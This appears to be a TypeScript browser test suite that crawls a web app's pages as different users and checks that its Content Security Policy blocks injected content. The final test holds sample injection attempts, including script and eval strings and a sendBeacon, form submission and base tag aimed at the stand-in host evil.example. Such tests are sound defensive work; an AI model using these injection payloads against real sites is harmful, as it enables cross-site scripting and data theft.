// No page of the client asks for anything that the content policy stops, and the policy stops what an injected text would try. Each page is opened by strangers, members and the owner, wide and narrow.
import { readFileSync } from 'node:fs'
import { glob } from 'node:fs/promises'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { changeHomepage, writeHomepageText } from '#contract/homepages'
import { beginJournalEntry, publishJournalEntry } from '#contract/journal'
import { type TestNeoSpace, testNeoSpace } from '#dev-env/neospace'
import { publish } from '#dev-env/sketching'
import { houseSongs } from '#song/house/index'
import { writeSong } from '#song/write-song'
import { forThisTier, launch, openPage, type WatchedPage, widths } from './browser.ts'
import { signIn } from './carrier.ts'

let house: TestNeoSpace
let browser: Browser
let url: string
let paths: string[]
let song: string
/** The page on which what is to be stopped is tried. */
let attacked: WatchedPage

beforeAll(async () => {
  house = await testNeoSpace({ dialect: 'sqlite' })
  url = house.config.origin
  const ada = await house.signedIn('ada', 'owner')
  const day = { title: 'A day', markdown: 'It **rained**.', audience: 'everyone', replies: true } as const
  const { entry } = await ada.visitor.request(beginJournalEntry, { body: { client_id: 'one-day-of-ada', ...day } })
  await ada.visitor.request(publishJournalEntry, { params: { id: entry.id }, body: { ends_in_hours: null } })
  const page = { path: 'index.html', text: '<style>p{color:red}</style><p onclick="x()">Here</p>', rev: 0 }
  await ada.visitor.request(writeHomepageText, { body: page })
  await ada.visitor.request(changeHomepage, { body: { audience: 'everyone' } })
  const sketch = await publish(ada.visitor, {}, { kind: 'canvas', code: 'ctx.fillRect(0, 0, 9, 9)' })
  song = await publish(ada.visitor, {}, { kind: 'song', code: writeSong(houseSongs.dusk()) })
  const bob = await house.person('bob')
  const { message } = await bob.say('general', '**bold** ||hidden|| `code`\n```ts\nconst a = 1\n```')
  await bob.say('general', 'https://a.example/ and #general and @ada')
  browser = await launch()
  const found = new Set(['/nowhere', '/docs/api', '/%ff'])
  // The pages that the slices of the client register, and those that the server renders.
  for await (const file of glob(['web/slices/**/index.ts', 'server/slices/*/view.ts']))
    for (const [, path] of readFileSync(file, 'utf8').matchAll(/(?:path: |atDoor\('[a-z-]+', )'(\/[^']*)'/g))
      if (path)
        found.add(
          path
            .replace('rooms/:name/jam', 'rooms/general/jam')
            .replace('cats/:cat', 'cats/hex')
            .replace(':name/:id?', `general/${message.id}`)
            .replace(/:username(\/:id\?)?/, 'ada')
            .replace(/:a\??\/:b.*$/, 'index.html')
            .replace(/journal\/:id$/, `journal/${entry.id}`)
            .replace(/sketches\/:name.*$/, `sketches/${sketch}`)
            .replace(/codeground\/:name.*$/, 'codeground/new/canvas')
            .replace(/song\/:name.*$/, 'song/new')
            .replace(/songs\/:name.*$/, `songs/${song}`)
            .replace(/\/:token\?$/, '#token-token-token'),
        )
  paths = [...found].sort()
  attacked = await openPage(browser, url)
  await attacked.goto('/')
  await attacked.locator('h1').first().waitFor()
})
afterAll(async () => {
  await browser?.close()
  await house?.[Symbol.asyncDispose]()
})

async function visit(page: WatchedPage): Promise<void> {
  for (const path of paths) {
    await page.goto(path)
    if (!path.startsWith('/%')) await page.locator('h1').first().waitFor()
  }
}

describe('the content policy', () => {
  it('SEC-1.4 the crawl knows every page', () => {
    expect(paths).toEqual(
      expect.arrayContaining([
        '/',
        '/door',
        '/join#token-token-token',
        '/rooms',
        '/settings',
        '/invites',
        '/applicants',
        '/@ada',
        '/wall',
        '/people/ada',
        '/@ada/journal',
        '/journal',
        '/profile',
        '/@ada/pages/index.html',
        '/pages',
        '/pages/index.html',
        '/gallery',
        '/codeground/new/canvas',
        '/song/new',
        `/songs/${song}`,
      ]),
    )
    expect(paths.filter((path) => path.includes(':'))).toEqual([])
  })

  // The two in which most pages are open and most of them are narrow come first: `npm test` crawls as these alone.
  const kinds = [
    ['the owner', 'ada', 'desktop'],
    ['strangers', null, 'phone'],
    ['strangers', null, 'desktop'],
    ['members', 'bob', 'desktop'],
    ['members', 'bob', 'phone'],
    ['the owner', 'ada', 'phone'],
  ] as const
  it.each(forThisTier(kinds))('SEC-1.4 stops nothing that the pages do for %s (%s, %s)', async (_, name, width) => {
    const page = await openPage(browser, url, { viewport: widths[width] })
    if (name !== null) await signIn(page, name)
    await visit(page)
    expect(page.complaints).toEqual([])
    await page.context().close()
  })

  it('SEC-1.4 stops nothing of what lies over the pages: palette, keys, dialogs, the lamp, rewording, colours of code', async () => {
    const page = await openPage(browser, url)
    await signIn(page, 'ada')
    await page.goto('/rooms/general')
    await page.locator('.hljs-keyword').waitFor()
    await page.keyboard.press('Escape')
    for (const keys of ['Control+k', '?']) {
      await page.locator('h1').first().click()
      await page.keyboard.press(keys)
      await page.locator('dialog[open]').waitFor()
      await page.keyboard.press('Escape')
    }
    await page.locator('.lamp').click()
    await page.locator('dialog[open] .facts').first().waitFor()
    await page.keyboard.press('Escape')
    for (const name of ['People in it', 'Change this room']) {
      await page.getByRole('button', { name }).first().click()
      await page.locator('dialog[open]').waitFor()
      await page.keyboard.press('Escape')
    }
    await page.locator('textarea.composer-field').fill('said by ada @b')
    await page.locator('textarea.composer-field').press('Escape')
    await page.locator('.composer-send').click()
    await page.locator('article.line').filter({ hasText: 'said by ada' }).waitFor()
    await page.locator('textarea.composer-field').press('ArrowUp')
    await page.locator('.edit-field').fill('said better')
    await page.keyboard.press('Enter')
    await page.locator('.edited').first().click()
    await page.locator('.wordings').first().waitFor()
    expect(page.complaints).toEqual([])
    await page.context().close()
  })

  it.each([
    ['markup from a text', () => void (document.body.innerHTML = '<b>x</b>'), 'require-trusted-types-for'],
    [
      'a script from a text',
      () => void (document.createElement('script').text = 'pwned = 1'),
      'require-trusted-types-for',
    ],
    // The lint knows better, and that is what is tried here.
    // oxlint-disable-next-line no-implied-eval
    ['code from a text', () => void setTimeout(() => Function('window.pwned = 1')()), 'require-trusted-types-for'],
    [
      'a policy that would trust a text',
      () => void Reflect.get(window, 'trustedTypes').createPolicy('x', {}),
      'trusted-types',
    ],
    [
      'a stylesheet of another house',
      () =>
        document.head.append(
          Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/' }),
        ),
      'style-src-elem',
    ],
    [
      'a picture of another house',
      () => document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' })),
      'img-src',
    ],
    ['words to another house', () => void navigator.sendBeacon('https://evil.example/', 'x'), 'connect-src'],
    ['a frame', () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })), 'frame-src'],
    ['a style in an attribute', () => document.body.setAttribute('style', 'color: red'), 'style-src-attr'],
    [
      'a form to another house',
      () => {
        const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
        document.body.append(form)
        form.submit()
      },
      'form-action',
    ],
    [
      'another base of all addresses',
      () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
      'base-uri',
    ],
  ])('SEC-1.4 %s is stopped, and the tests hear of it', async (_, attempt, directive) => {
    const before = attacked.complaints.length
    await attacked.evaluate(attempt).catch(() => {})
    await expect
      .poll(() => attacked.complaints.slice(before).filter((line) => line.startsWith(`policy: ${directive} `)))
      .not.toEqual([])
    expect(await attacked.evaluate(() => 'pwned' in window)).toBe(false)
  })
})
